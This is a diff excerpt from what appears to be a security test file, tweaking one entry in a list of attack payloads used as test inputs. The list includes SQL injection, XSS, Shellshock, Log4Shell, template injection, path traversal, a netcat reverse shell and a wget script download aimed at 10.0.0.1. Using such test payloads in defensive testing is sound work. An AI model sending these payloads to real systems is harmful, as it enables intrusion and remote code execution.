@@ -119,7 +119,7 @@ def test_agents_outside_the_grammar_are_inspected_and_pass(edge, agent):
 
 PAYLOADS = ["' OR 1=1-- -", "\" or \"1\"=\"1", "1' AND SLEEP(5)#",
             "<script>alert(1)</script>", "\"><svg onload=alert(1)>",
-            "() { :; }; /bin/bash -c 'id'", "$(id)", "`id`", "; cat /etc/passwd",
+            "() { :; }; /bin/bash -c 'id'", "$(id)", "x`id`", "; cat /etc/passwd",
             "| nc 10.0.0.1 4444 -e /bin/sh", "&& wget http://10.0.0.1/x.sh",
             "${jndi:ldap://10.0.0.1:1389/a}", "{{7*7}}{{config.items()}}",
             "../../../../etc/passwd", "..\\..\\windows\\win.ini",
